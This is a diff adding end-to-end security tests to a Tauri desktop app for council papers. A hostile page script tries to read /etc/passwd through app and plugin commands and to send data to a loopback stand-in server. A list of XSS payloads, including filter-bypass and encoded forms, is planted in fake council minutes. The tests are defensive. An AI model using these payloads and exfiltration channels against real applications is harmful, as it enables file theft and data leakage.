@@ -257,3 +257,252 @@ async fn import_pdf(client: &Client) -> Result<(), String> {
     }
     Ok(())
 }
+
+/// A server on loopback that counts every connection made to it: what a
+/// script in the page would send data out to.
+struct Listener {
+    port: u16,
+    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl Listener {
+    fn start() -> Self {
+        use std::io::Read as _;
+        use std::sync::atomic::Ordering;
+        let server = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
+        server.set_nonblocking(true).expect("nonblocking");
+        let port = server.local_addr().expect("addr").port();
+        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let (h, s) = (hits.clone(), stop.clone());
+        std::thread::spawn(move || {
+            while !s.load(Ordering::Relaxed) {
+                match server.accept() {
+                    Ok((mut conn, _)) => {
+                        h.fetch_add(1, Ordering::SeqCst);
+                        let mut buf = [0u8; 4096];
+                        let _ = conn.set_read_timeout(Some(Duration::from_millis(200)));
+                        if let Ok(n) = conn.read(&mut buf) {
+                            eprintln!("loopback server received: {}", String::from_utf8_lossy(&buf[..n]).lines().next().unwrap_or(""));
+                        }
+                    }
+                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
+                }
+            }
+        });
+        Self { port, hits, stop }
+    }
+
+    fn hits(&self) -> usize {
+        self.hits.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+impl Drop for Listener {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    }
+}
+
+/// What a script that slipped into the page would try: read the member's
+/// files through every command, and send anything out of the window.
+const HOSTILE_SCRIPT: &str = r#"
+const [port, done] = [arguments[0], arguments[arguments.length - 1]];
+const out = `http://127.0.0.1:${port}`;
+const invoke = window.__TAURI_INTERNALS__.invoke;
+const attempt = async (cmd, args) => {
+  try { const r = await invoke(cmd, args); return "ANSWERED " + JSON.stringify(r).slice(0, 200); }
+  catch (e) { return "refused: " + String((e && e.message) || e); }
+};
+(async () => {
+  const r = {};
+  r.meetings_before = (await invoke("list_meetings")).length;
+  r.import_files = await attempt("import_files", { paths: ["/etc/passwd"] });
+  r.get_item = await attempt("get_item", { id: "/etc/passwd" });
+  r.get_meeting = await attempt("get_meeting", { id: "../../../etc/passwd" });
+  r.get_document = await attempt("get_document", { id: "/etc/passwd" });
+  r.get_budget_lines = await attempt("get_budget_lines", { id: "file:///etc/passwd" });
+  r.dialog_open = await attempt("plugin:dialog|open", { options: { defaultPath: "/etc" } });
+  r.fs_read = await attempt("plugin:fs|read_text_file", { path: "/etc/passwd" });
+  r.opener = await attempt("plugin:opener|open_url", { url: `${out}/opener` });
+  r.shell_open = await attempt("plugin:shell|open", { path: `${out}/shell` });
+  r.new_window = await attempt("plugin:webview|create_webview_window", { options: { label: "x", url: `${out}/webview` } });
+  try { r.fetch = "sent " + (await fetch(`${out}/fetch?d=secret`)).status; } catch (e) { r.fetch = "refused"; }
+  try { const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`); ws.onopen = () => ws.send("secret"); } catch (e) {}
+  try { window.open(`${out}/window-open?d=secret`); } catch (e) {}
+  const img = new Image(); img.src = `${out}/beacon?d=secret`; document.body.appendChild(img);
+  try { navigator.sendBeacon(`${out}/send-beacon`, "secret"); } catch (e) {}
+  const link = document.createElement("link"); link.rel = "stylesheet"; link.href = `${out}/style.css`; document.head.appendChild(link);
+  const frame = document.createElement("iframe"); frame.src = `${out}/frame`; document.body.appendChild(frame);
+  const form = document.createElement("form"); form.method = "POST"; form.action = `${out}/form`;
+  const field = document.createElement("input"); field.name = "d"; field.value = "secret"; form.appendChild(field);
+  document.body.appendChild(form);
+  try { form.submit(); } catch (e) {}
+  setTimeout(async () => { r.meetings_after = (await invoke("list_meetings")).length; done(r); }, 1500);
+})();
+"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hostile_script_in_the_page_can_neither_read_files_nor_send_anything_out() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let server = Listener::start();
+    let port = server.port;
+    with_app("e2e-hostile.png", &[], |c| async move {
+        let r = hostile(&c, port).await;
+        (c, r)
+    })
+    .await;
+    assert_eq!(server.hits(), 0, "the loopback server received a connection from the page");
+}
+
+async fn hostile(client: &Client, port: u16) -> Result<(), String> {
+    let err = |e: fantoccini::error::CmdError| e.to_string();
+    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
+    let r = client.execute_async(HOSTILE_SCRIPT, vec![serde_json::json!(port)]).await.map_err(err)?;
+    eprintln!("hostile script results: {r:#}");
+    for cmd in ["import_files", "get_item", "get_meeting", "get_document", "get_budget_lines", "dialog_open", "fs_read", "opener", "shell_open", "new_window"] {
+        let said = r[cmd].as_str().unwrap_or("");
+        if !said.starts_with("refused") {
+            return Err(format!("{cmd} was not refused: {said}"));
+        }
+    }
+    if r["meetings_before"] != r["meetings_after"] {
+        return Err(format!("the library changed: {} then {} meetings", r["meetings_before"], r["meetings_after"]));
+    }
+    // The last step: take the window itself somewhere else.
+    let nav = format!("location.href = 'http://127.0.0.1:{port}/nav-leak?data=' + encodeURIComponent(document.body.innerText.slice(0, 100));");
+    let _ = client.execute(&nav, vec![]).await;
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let href = client.execute("return location.href", vec![]).await.map_err(err)?;
+    let href = href.as_str().unwrap_or_default().to_owned();
+    if href.contains("127.0.0.1") {
+        return Err(format!("the window left the app for {href}"));
+    }
+    try_wait_for(client, "[data-testid='meeting']", LIMIT).await.map(|_| ())
+}
+
+/// Script payloads, each of which would set `window.__xss` (or call home to
+/// the loopback server) if the page ever ran or loaded it.
+fn xss_payloads(port: u16) -> Vec<String> {
+    let out = format!("http://127.0.0.1:{port}");
+    [
+        "<script>window.__xss=1</script>",
+        "<SCRIPT SRC=OUT/x.js></SCRIPT>",
+        "<img src=x onerror=window.__xss=2>",
+        "<img src=\"OUT/img\">",
+        "<svg onload=window.__xss=3>",
+        "<svg><script>window.__xss=4</script></svg>",
+        "<body onload=window.__xss=5>",
+        "<iframe src=\"javascript:parent.__xss=6\"></iframe>",
+        "<iframe srcdoc=\"<script>parent.__xss=7</script>\"></iframe>",
+        "<a href=\"javascript:window.__xss=8\">click</a>",
+        "<a href=\"data:text/html,<script>parent.__xss=9</script>\">data</a>",
+        "<div style=\"background:url(OUT/css)\">styled</div>",
+        "<style>@import 'OUT/import.css';</style>",
+        "<link rel=stylesheet href=OUT/link.css>",
+        "<object data=\"OUT/object\"></object>",
+        "<embed src=\"OUT/embed\">",
+        "<video src=x onerror=window.__xss=10></video>",
+        "<audio src=x onerror=window.__xss=11>",
+        "<details open ontoggle=window.__xss=12>",
+        "<input autofocus onfocus=window.__xss=13>",
+        "<marquee onstart=window.__xss=14>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=15>",
+        "\"><script>window.__xss=16</script>",
+        "'><img src=x onerror=window.__xss=17>",
+        "<scr<script>ipt>window.__xss=18</scr</script>ipt>",
+        "<img src=x onerror=&#119;indow.__xss=19>",
+        "<meta http-equiv=refresh content=\"0;url=OUT/meta\">",
+        "<base href=\"OUT/\">",
+        "<form action=OUT/form><button>go</button></form>",
+        "[click](javascript:window.__xss=20)",
+        "![beacon](OUT/md-image)",
+        "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTIx'))>",
+        "{@html '<img src=x onerror=window.__xss=22>'}",
+        "<!--<img src=\"--><img src=x onerror=window.__xss=23//\">",
+    ]
+    .iter()
+    .map(|p| p.replace("OUT", &out))
+    .collect()
+}
+
+/// Papers of every format the app reads as text, full of the payloads.
+fn hostile_papers(dir: &std::path::Path, port: u16) -> Vec<PathBuf> {
+    let payloads = xss_payloads(port);
+    let mut text = String::from(
+        "BRACKENFORD DISTRICT COUNCIL\n\nCABINET\n\nMINUTES of a meeting of the Cabinet held on Tuesday, 9 March 2021.\n\n",
+    );
+    for (i, p) in payloads.iter().enumerate() {
+        text.push_str(&format!("{}. {p}\n\n{p} The Cabinet noted an overspend of £1.{i}m. {p}\n\nRESOLVED that {p}\n\n", i + 1));
+    }
+    let txt = dir.join("hostile-minutes.txt");
+    std::fs::write(&txt, &text).expect("write text paper");
+    let mut html = String::from(
+        "<html><head><title>Agenda item</title></head><body><h1>Agenda item</h1><h2>Hostile payloads</h2><p>Minutes:</p>",
+    );
+    for p in &payloads {
+        html.push_str(&format!("<p>{p}</p><table><tr><td>{p}</td><td>£1.5m</td></tr></table>"));
+    }
+    html.push_str("</body></html>");
+    let page = dir.join("hostile-page.html");
+    std::fs::write(&page, html).expect("write web page");
+    vec![txt, page]
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn script_payloads_in_papers_never_run_or_call_out() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let server = Listener::start();
+    let dir = tempfile::tempdir().expect("temp dir");
+    let papers = hostile_papers(dir.path(), server.port);
+    let pick = std::env::join_paths(&papers).expect("paths");
+    with_app("e2e-xss.png", &[("SCRUTINEER_E2E_PICK", pick.as_os_str())], |c| async move {
+        let r = open_hostile_papers(&c).await;
+        (c, r)
+    })
+    .await;
+    assert_eq!(server.hits(), 0, "a payload reached the loopback server");
+}
+
+async fn open_hostile_papers(client: &Client) -> Result<(), String> {
+    let err = |e: fantoccini::error::CmdError| e.to_string();
+    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
+    try_wait_for(client, "[data-testid='import-button']", LIMIT).await?.click().await.map_err(err)?;
+    let reports = try_wait_for(client, "[data-testid='import-reports']", LIMIT).await?.text().await.map_err(err)?;
+    if reports.matches("Imported").count() < 2 {
+        return Err(format!("both hostile papers should import: {reports}"));
+    }
+    // Open every meeting from those papers and every one of their items.
+    let meetings = client.find_all(Locator::Css("[data-testid='meeting']")).await.map_err(err)?;
+    let mut opened = 0;
+    for i in 0..meetings.len() {
+        let rows = client.find_all(Locator::Css("[data-testid='meeting']")).await.map_err(err)?;
+        let text = rows[i].text().await.map_err(err)?;
+        if !(text.contains("9 March 2021") || text.to_lowercase().contains("hostile")) {
+            continue;
+        }
+        rows[i].click().await.map_err(err)?;
+        try_wait_for(client, "[data-testid='item']", LIMIT).await?;
+        let items = client.find_all(Locator::Css("[data-testid='item']")).await.map_err(err)?.len();
+        for j in 0..items {
+            let rows = client.find_all(Locator::Css("[data-testid='item']")).await.map_err(err)?;
+            rows[j].click().await.map_err(err)?;
+            try_wait_for(client, "#item-heading", LIMIT).await?;
+            opened += 1;
+        }
+    }
+    if opened < 10 {
+        return Err(format!("only {opened} hostile items were opened"));
+    }
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    let sentinel = client.execute("return typeof window.__xss === 'undefined' ? null : String(window.__xss)", vec![]).await.map_err(err)?;
+    if !sentinel.is_null() {
+        return Err(format!("payload {sentinel} ran"));
+    }
+    let href = client.execute("return location.href", vec![]).await.map_err(err)?;
+    if href.as_str().is_some_and(|h| h.contains("127.0.0.1")) {
+        return Err(format!("the window left the app: {href}"));
+    }
+    Ok(())
+}
